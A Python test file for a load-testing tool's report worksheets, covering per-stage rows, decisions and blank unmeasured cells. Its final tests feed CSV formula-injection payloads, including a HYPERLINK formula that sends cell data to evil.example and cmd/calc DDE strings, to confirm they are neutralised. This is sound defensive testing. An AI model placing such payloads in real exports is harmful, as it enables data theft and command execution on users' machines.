"""The worksheet: what each group holds of a stage, what stays blank, and text that no spreadsheet takes for a formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest

from llm_locust.records import RunFolder, WorkloadFacts
from llm_locust.records.text import inert_cell
from llm_locust.report import merge_run, report_run
from llm_locust.report.csv_cells import csv_text
from llm_locust.report.worksheet_columns import GROUPS
from tests.analysis.run_builder import RunBuilder

FACTS = {
    "engine": "vLLM",
    "engine_version": "0.11.0",
    "accelerator": "NVIDIA H100",
    "accelerator_count": 2,
    "context_limit_tokens": 8192,
    "max_active_sequences": 256,
    "quantization_dtype": "bfloat16",
    "cache_state": "cold: restarted before the run",
    "owner": "Inference team",
    "retest_when": ["the prompt template changes"],
}


def a_run(tmp_path: Path, **manifest: Any) -> RunBuilder:
    """A rate that passes, one that fails on TTFT, and one that was never reached."""
    run = RunBuilder(tmp_path, slo={"ttft": 500}, **({"facts": FACTS, "model": "m"} | manifest))
    low = run.stage(rate=2, warmup=10, cooldown=5)
    low.requests(600, over=60)
    low.scraped(lambda at: {"running": 3, "waiting": 0, "kv_usage_max": 0.25, "preemptions": 0})
    high = run.stage(rate=4)
    for k in range(240):
        high.request(k / 4, ttft=900 if k % 2 else 100)
    for outcome in ("rejected", "oom"):
        high.request(59.99, outcome=outcome, status=503)
    run.stage(rate=8)
    return run


def rows_of(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))


def worksheet(run: RunBuilder) -> list[dict[str, str]]:
    merge_run(run.write())
    return rows_of(run.folder.worksheet_csv)


def test_there_is_a_row_per_stage_and_one_for_the_burst_that_was_not_run(tmp_path: Path) -> None:
    assert [row["test"] for row in worksheet(a_run(tmp_path))] == [
        "open 2/s poisson",
        "open 4/s poisson",
        "open 8/s poisson",
        "burst or trace of 2 req/s",
    ]


def test_the_fixed_conditions_are_those_of_the_record(tmp_path: Path) -> None:
    row = worksheet(a_run(tmp_path))[0]
    got = {
        name.partition(": ")[2]: cell for name, cell in row.items() if name.startswith("fixed conditions: ") and cell
    }
    assert got == {
        "engine": "vLLM",
        "engine version": "0.11.0",
        "synthetic engine": "no",
        "model": "m",
        "weights dtype": "bfloat16",
        "accelerator": "NVIDIA H100",
        "accelerators [count]": "2",
        "context limit [tokens]": "8192",
        "slots [requests]": "256",
        "cache state": "cold: restarted before the run",
    }


def test_the_traffic_shape_is_what_was_offered(tmp_path: Path) -> None:
    row = worksheet(a_run(tmp_path))[0]
    got = {name.partition(": ")[2]: cell for name, cell in row.items() if name.startswith("traffic shape: ") and cell}
    assert got == {
        "arrival mode": "open",
        "arrival process": "poisson",
        "offered rate [req/s]": "2",
        "workload": "chat",
        "workload kind": "representative",
        "workload SHA-256": "ab" * 32,
        "input P50 [tokens]": "20",
        "input P95 [tokens]": "20",
        "output P50 [tokens]": "11",
        "output P95 [tokens]": "11",
        "warm-up [s]": "10",
        "window [s]": "60",
        "cool-down at most [s]": "5",
        "rounds [count]": "1",
        "deadline [s]": "30",
    }


def test_the_observations_are_those_of_the_stage(tmp_path: Path) -> None:
    low, high, *_ = worksheet(a_run(tmp_path))
    seen = "observations: "
    assert [high[f"{seen}{name} [requests]"] for name in ("measured", "completed", "rejected", "failed")] == [
        "242", "240", "1", "2",
    ]  # fmt: skip
    assert high[f"{seen}out of memory [requests]"] == "1"
    assert [low[f"{seen}{name} [ms]"] for name in ("TTFT P95", "TPOT P95", "E2E P95")] == ["100", "90", "1000"]
    assert [low[f"{seen}{name} P95 [ms]"] for name in ("client wait", "cap wait")] == ["0", "0"]
    assert [low[f"{seen}{name}"] for name in ("in flight trend", "waiting trend")] == ["flat", "flat"]
    assert [low[f"{seen}{name} [requests]"] for name in ("running peak", "waiting peak")] == ["3", "0"]
    assert (low[f"{seen}KV cache peak [% of blocks]"], low[f"{seen}preemptions [count]"]) == ("25", "0")


def test_what_was_not_measured_is_blank_and_never_0(tmp_path: Path) -> None:
    _, high, *_ = worksheet(a_run(tmp_path))
    names = ("KV cache peak [% of blocks]", "preemptions [count]", "waiting peak [requests]", "memory peak [GB]")
    assert [high[f"observations: {name}"] for name in names] == ["", "", "", ""]


def test_the_decision_names_gates_boundary_owner_and_what_ends_it(tmp_path: Path) -> None:
    low, high, *_ = worksheet(a_run(tmp_path))
    assert low["decision: gates"] == (
        "attainment >= 0.95: 1, holds; error_rate <= 0.01: 0, holds; oom = 0: 0, holds; in_flight_trend = flat: flat, "
        "holds; waiting_trend = flat: flat, holds"
    )
    assert (low["decision: result"], high["decision: result"]) == ("pass", "fail")
    assert low["decision: good [req/s]"] == "10"
    assert low["decision: last sustained rate [req/s]"] == "2"
    assert low["decision: first failing rate [req/s]"] == "4"
    assert high["decision: failing"].startswith("ttft: 120 of 240 over 500 ms; error_rate: 2 of 242 failed")
    assert (low["decision: owner"], low["decision: evidence grade"]) == ("Inference team", "partial")
    assert low["decision: test again after"].endswith(
        "the prompt template changes; bursts of another kind; multimodal input; CPU offload; another number of instances; "
        "an update of the model"
    )


def test_what_was_not_run_is_blank_but_for_what_was_asked(tmp_path: Path) -> None:
    *_, stage, burst = worksheet(a_run(tmp_path))
    for row in (stage, burst):
        assert {name for name, cell in row.items() if name.startswith("observations") and cell} == set()
        assert {name for name, cell in row.items() if name.startswith("fixed") and cell} == set()
        assert row["decision: result"] == "not_run"
    assert stage["traffic shape: offered rate [req/s]"] == "8"
    assert burst["traffic shape: offered rate [req/s]"] == "2"


def test_the_markdown_has_the_same_rows_in_four_tables(tmp_path: Path) -> None:
    run = a_run(tmp_path)
    merge_run(run.write())
    text = run.folder.worksheet_md.read_text()
    assert [line for line in text.splitlines() if line.startswith("## ")] == [
        "## Fixed conditions",
        "## Traffic shape",
        "## Observations",
        "## Decision",
    ]
    tables = [line for line in text.splitlines() if line.startswith("| ")]
    assert len(tables) == len(GROUPS) * (1 + 4)
    cells = {line.count(" |") - line.count(r"\|") for line in tables[:5]}
    assert cells == {1 + len(GROUPS[0][1])}


def test_other_limits_go_to_a_worksheet_of_their_own(tmp_path: Path) -> None:
    run = a_run(tmp_path)
    merge_run(run.write())
    before = run.folder.worksheet_csv.read_bytes()
    report_run(run.folder.path, {"ttft": 1000.0})
    assert run.folder.worksheet_csv.read_bytes() == before
    other = rows_of(run.folder.path / "worksheet-slo-ttft1000.csv")
    assert other[1]["decision: failing"].startswith("oom: 1 requests")
    assert (run.folder.path / "worksheet-slo-ttft1000.md").exists()


EVIL = '=HYPERLINK("http://evil.example/?"&A1,"open") | **bold**'


def test_text_from_elsewhere_is_no_formula_in_csv_and_no_markup_in_markdown(tmp_path: Path) -> None:
    workload = WorkloadFacts(name=EVIL, kind="synthetic", source="s", sha256="ab" * 32, slices=["@SUM(A1)"])
    run = a_run(tmp_path, model="+cmd|' /C calc'!A0", workload=workload)
    for row in worksheet(run):
        assert row["traffic shape: workload"] == f"'{EVIL}"
        assert row["traffic shape: slices"] == "'@SUM(A1)"
        assert row["fixed conditions: model"] in ("", "'+cmd|' /C calc'!A0")
        assert not any(cell.startswith(tuple("=+@")) for cell in row.values())
    text = run.folder.worksheet_md.read_text()
    assert r'=HYPERLINK("http://evil.example/?"\&A1,"open") \| \*\*bold\*\*' in text


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+cmd", "@SUM(A1)", "\t=1", "\r=1", " =1", "\u00a0=1", "＝1", "－1"])
def test_what_a_spreadsheet_may_take_for_a_formula_gets_an_apostrophe(text: str) -> None:
    assert inert_cell(text) == f"'{text}"
    assert inert_cell(inert_cell(text)) == inert_cell(text)


@pytest.mark.parametrize("text", ["", "HTTP 500: x=1", "a-b", "'=1", "m/n:q4_0", "   "])
def test_other_text_stays_as_it_is(text: str) -> None:
    assert inert_cell(text) == text


def test_numbers_are_numbers_also_below_0() -> None:
    assert csv_text([[-1.5, 0, 60.0, 1e-7, None, True, False, "inf", 'a,"b"']]) == (
        '-1.5,0,60,1e-07,,yes,no,inf,"a,""b"""\n'
    )


def test_what_a_server_chose_is_inert_in_the_request_files_too(tmp_path: Path) -> None:
    run = RunBuilder(tmp_path)
    stage = run.stage(rate=1)
    stage.request(1, outcome="stream_error", status=200, error='=cmd|"/C calc"!A0')
    stage.request(2, finish_reason="@stop")
    merge_run(run.write())
    folder = RunFolder(run.folder.path)
    for path in (folder.worker_csv(0), folder.merged):
        first, second = rows_of(path)
        assert (first["error"], second["finish_reason"]) == ('\'=cmd|"/C calc"!A0', "'@stop")
    once = folder.merged.read_bytes()
    merge_run(folder.path)
    assert folder.merged.read_bytes() == once
